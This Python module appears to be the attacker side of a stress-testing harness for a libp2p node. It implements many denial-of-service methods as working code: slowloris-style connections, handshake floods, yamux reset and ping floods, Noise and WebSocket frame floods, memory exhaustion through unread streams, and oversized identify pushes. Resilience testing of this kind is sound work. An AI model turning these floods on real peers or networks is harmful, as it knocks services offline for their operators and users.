"""Who attacks: one process. `attacker.py KIND ADDRESS AMOUNT`; ends when it has done so, or at EOF."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

from libp2p import Multiaddr
from libp2p.host.identify.identify_pb2 import Identify
from libp2p.identity import PrivateKey
from libp2p.multiaddr import host_port
from libp2p.muxers.yamux.wire import DATA, HEADER, PING, WINDOW_UPDATE, Flag
from libp2p.varint import encode_varint

from . import datagrams
from .bare import MANY, ONE, come_from, connect, patient, send, source

PIECE = 500
"""Frames that are sent at a time."""

HELLO = b"\x13/multistream/1.0.0\n"


def asking(protocol: str) -> bytes:
    """What a stream begins with."""
    return HELLO + encode_varint(len(protocol) + 1) + protocol.encode() + b"\n"


async def until_eof() -> None:
    """Say that all is in place, and hold it until stdin ends."""
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)


async def _again_and_again(addr: str, amount: int, attack: Callable[[Any, int], Awaitable[int]]) -> None:
    """Attack until the amount is spent; who is thrown out comes again."""
    while amount > 0:
        connection = await patient(addr)
        with contextlib.suppress(Exception):
            amount -= max(await attack(connection, amount), 1)
        connection.abort()


async def _flood(addr: str, amount: int, piece: Callable[[Any], bytes], *, below: bool = False) -> None:
    async def attack(connection: Any, left: int) -> int:
        pieces = (piece(connection) for _ in range(0, left, PIECE))
        return PIECE * await send(connection, pieces, below=below)

    await _again_and_again(addr, amount, attack)


async def _by_fifty(addr: str, amount: int, piece: Callable[[Any], bytes], *, below: bool = False) -> None:
    await asyncio.gather(*(_flood(addr, amount, piece, below=below) for _ in range(50)))


# Without a handshake


async def silent(addr: str, amount: int) -> None:
    """Connect and say nothing; who is refused comes again."""
    await _raw(addr, amount, lambda _: None)


async def drip(addr: str, amount: int) -> None:
    """Connect and begin to speak, a byte at a time."""
    await _raw(addr, amount, lambda sock: sock.send(b"\x13"))


async def heads(addr: str, amount: int) -> None:
    """Begin an HTTP request, and never end it."""
    await _raw(addr, amount, lambda sock: sock.send(b"GET / HTTP/1.1\r\nHost: x\r\n"))


async def _raw(addr: str, amount: int, begin: Callable[[socket.socket], object]) -> None:
    target = host_port(Multiaddr(addr))
    held: list[socket.socket] = []
    loop = asyncio.get_running_loop()
    for _ in range(amount):
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((source(), 0))
        with contextlib.suppress(OSError, TimeoutError):
            await asyncio.wait_for(loop.sock_connect(sock, (target.host, target.port)), 1)
            begin(sock)
        held.append(sock)
        if len(held) > 800:
            held.pop(0).close()
    await asyncio.sleep(1)


# Handshakes


async def handshakes(addr: str, amount: int) -> None:
    """Whole handshakes from many addresses, as fast as they go."""
    await _handshakes(addr, amount, tls=False)


async def tls_handshakes(addr: str, amount: int) -> None:
    """The same by TLS."""
    await _handshakes(addr, amount, tls=True)


async def _handshakes(addr: str, amount: int, *, tls: bool) -> None:
    come_from(*MANY[:16])
    left, key = iter(range(amount)), PrivateKey.generate()

    async def one_after_the_other() -> None:
        for _ in left:
            with contextlib.suppress(Exception):
                (await connect(addr, key, tls=tls)).abort()

    await asyncio.gather(*(one_after_the_other() for _ in range(16)))


async def first_messages(addr: str, amount: int) -> None:
    """The first message of a Noise handshake from many addresses, and nothing behind it."""
    come_from(*MANY[:16])
    key = b"\x09" + bytes(31)
    await _raw(addr, amount, lambda sock: sock.send(HELLO + b"\x07/noise\n" + b"\0\x20" + key))


async def strangers(addr: str, amount: int) -> None:
    """Idle connections, each of a fresh key, held until stdin ends."""
    come_from(*MANY)
    left, held = iter(range(amount)), []

    async def come() -> None:
        for _ in left:
            with contextlib.suppress(Exception):  # it is full
                connection = await connect(addr)
                held.append(connection)

    await asyncio.gather(*(come() for _ in range(8)))
    await until_eof()


# Frames


def _streams(first: int, message: bytes, count: int = PIECE) -> Iterator[bytes]:
    for n in range(first, first + count):
        yield HEADER.pack(0, DATA, Flag.SYN, 1 + 2 * n, len(message)) + message


def _resets(first: int) -> Iterator[bytes]:
    for n in range(first, first + PIECE):
        yield HEADER.pack(0, WINDOW_UPDATE, Flag.RST, 1 + 2 * n, 0)


async def resets(addr: str, amount: int) -> None:
    """SYN and RST, which ask for nothing."""
    count = itertools.count(0, PIECE)

    def piece(_: Any) -> bytes:
        first = next(count)
        return b"".join(a + b for a, b in zip(_streams(first, b""), _resets(first), strict=True))

    await _flood(addr, amount, piece)


async def slow(addr: str, amount: int) -> None:
    """Streams of a slow handler, reset at once: so that the handler begins, the reset comes a little later."""

    async def attack(connection: Any, left: int) -> int:
        def pieces() -> Iterator[bytes]:
            for first in range(0, left, PIECE):
                yield b"".join(_streams(first, asking("/slow/1")))
                yield b"".join(_resets(first))

        return PIECE // 2 * await send(connection, pieces())

    await _again_and_again(addr, amount, attack)


async def pings(addr: str, amount: int) -> None:
    """Fifty connections that ping, `amount` times each."""
    await _by_fifty(addr, amount, lambda _: HEADER.pack(0, PING, Flag.SYN, 0, 7) * PIECE)


async def updates(addr: str, amount: int) -> None:
    """Fifty connections that open the window of a stream bit by bit."""
    begin = HEADER.pack(0, WINDOW_UPDATE, Flag.SYN, 1, 0)
    more = HEADER.pack(0, WINDOW_UPDATE, 0, 1, 1) * PIECE
    begun: set[int] = set()

    def piece(connection: Any) -> bytes:
        return more if id(connection) in begun else begun.add(id(connection)) or begin + more

    await _by_fifty(addr, amount, piece)


async def empty_messages(addr: str, amount: int) -> None:
    """Noise messages of no content."""
    await _flood(addr, amount, lambda one: b"".join(one._channel._seal([b""]) for _ in range(PIECE)), below=True)


async def tiny_messages(addr: str, amount: int) -> None:
    """Noise messages of a byte each."""
    frames = HEADER.pack(0, PING, Flag.ACK, 0, 7) * (PIECE // 12)

    def piece(one: Any) -> bytes:
        return b"".join(one._channel._seal([bytes((byte,))]) for byte in frames)

    await _flood(addr, amount, piece, below=True)


def _below(one: Any) -> Any:
    """The TCP connection below a WebSocket."""
    return one._channel._raw._raw


async def _ws_flood(addr: str, amount: int, piece: Callable[[Any], bytes]) -> None:
    async def attack(connection: Any, left: int) -> int:
        raw, sent = _below(connection), 0
        while sent < left and connection.close_reason is None:
            raw.send((piece(connection),))
            sent += PIECE
            await asyncio.sleep(0.002)
            while connection.close_reason is None and raw.unsent > 256 * 1024:  # noqa: ASYNC110
                await asyncio.sleep(0.002)
        return sent

    await _again_and_again(addr, amount, attack)


async def ws_empty(addr: str, amount: int) -> None:
    """WebSocket frames of no content."""
    await _ws_flood(addr, amount, lambda _: b"\x82\x80\0\0\0\0" * PIECE)


async def ws_tiny(addr: str, amount: int) -> None:
    """WebSocket frames of a byte each."""

    def piece(one: Any) -> bytes:
        message = one._channel._seal([HEADER.pack(0, PING, Flag.ACK, 0, 7)] * 38)
        return b"".join(b"\x82\x81\0\0\0\0" + message[at : at + 1] for at in range(len(message)))

    await _ws_flood(addr, amount, piece)


async def ws_pings(addr: str, amount: int) -> None:
    """Fifty WebSockets that ping."""
    await asyncio.gather(*(_ws_flood(addr, amount, lambda _: b"\x89\x80\0\0\0\0" * PIECE) for _ in range(50)))


# Memory


async def unread(addr: str, amount: int) -> None:
    """Eight connections of one key, 1,024 streams on each, which nobody reads, filled as far as that goes."""
    key, share = PrivateKey.generate(), amount // 8
    connections = [await patient(addr, key) for _ in range(8)]

    def pieces() -> Iterator[bytes]:
        for n in range(0, 1024, 64):
            yield b"".join(_streams(n, asking("/unread/1"), 64))
        full = bytes(65_536 - 1024)
        for n in itertools.islice(itertools.cycle(range(1024)), share // len(full)):
            yield HEADER.pack(0, DATA, 0, 1 + 2 * n, len(full)) + full

    async def one(connection: Any) -> None:
        await send(connection, itertools.islice(pieces(), 16))
        for piece in itertools.islice(pieces(), 16, None):
            if connection.close_reason is not None:
                return
            connection._channel.send((piece,))
            while connection.close_reason is None and connection._channel.unsent > 1 << 20:  # noqa: ASYNC110
                await asyncio.sleep(0.002)

    await asyncio.gather(*map(one, connections), return_exceptions=True)
    await asyncio.sleep(1)


async def unnegotiated(addr: str, amount: int) -> None:
    """Streams on which no protocol is ever asked for."""
    connections = [await patient(addr) for _ in range(8)]
    for connection in connections:
        await send(connection, iter([b"".join(_streams(0, b"", amount // 8))]))
    await asyncio.sleep(2)


# Identify


def fat() -> bytes:
    """All that identify takes, and more: addresses of many components, protocols without end."""
    addrs = [b"\x04\x7f\0\0\x01\x06" + port.to_bytes(2, "big") + b"\xdd\x03" * 8 for port in range(1000, 1300)]
    names = [b"/%04d/\xf0\x9f\xa5\xa9" % number * 8 for number in range(100)]
    parts = []
    for n in range(8):
        body = Identify(listen_addrs=addrs[40 * n : 40 * n + 40], protocols=names[12 * n : 12 * n + 12])
        encoded = body.SerializeToString()
        parts.append(encode_varint(len(encoded)) + encoded)
    return asking("/ipfs/id/push/1.0.0") + b"".join(parts)


async def identities(addr: str, amount: int) -> None:
    """Ever new peers that say all of themselves that is taken, and go."""
    come_from(*MANY)
    left, message = iter(range(amount)), fat()

    async def come() -> None:
        for _ in left:
            connection = await patient(addr)
            await send(connection, iter([HEADER.pack(0, DATA, Flag.SYN | Flag.FIN, 1, len(message)) + message]))
            await asyncio.sleep(0.05)
            connection.abort()

    await asyncio.gather(*(come() for _ in range(8)))


async def pushes(addr: str, amount: int) -> None:
    """Twenty peers that push the same, without an end."""
    message, count = fat(), itertools.count()

    def piece(_: Any) -> bytes:
        return HEADER.pack(0, DATA, Flag.SYN | Flag.FIN, 1 + 2 * next(count), len(message)) + message

    async def attack(connection: Any, left: int) -> int:
        return await send(connection, (piece(connection) for _ in range(left)))

    await asyncio.gather(*(_again_and_again(addr, amount // 20, attack) for _ in range(20)))


async def asking_who(addr: str, amount: int) -> None:
    """Ask who the victim is, again and again."""
    count = itertools.count(0, 50)
    await _flood(addr, amount, lambda _: b"".join(_streams(next(count), asking("/ipfs/id/1.0.0"), 50)))


# Datagrams

quic_handshakes = datagrams.handshakes
quic_halves = datagrams.halves
quic_pings = datagrams.pings
quic_acks = datagrams.acks
quic_tiny = datagrams.tiny
quic_strays = datagrams.strays
quic_garbage = datagrams.garbage
quic_moves = datagrams.moves


async def main() -> None:
    """Run what the command line names."""
    come_from(*ONE)
    await globals()[sys.argv[1]](sys.argv[2], int(sys.argv[3]))


if __name__ == "__main__":
    asyncio.run(main())
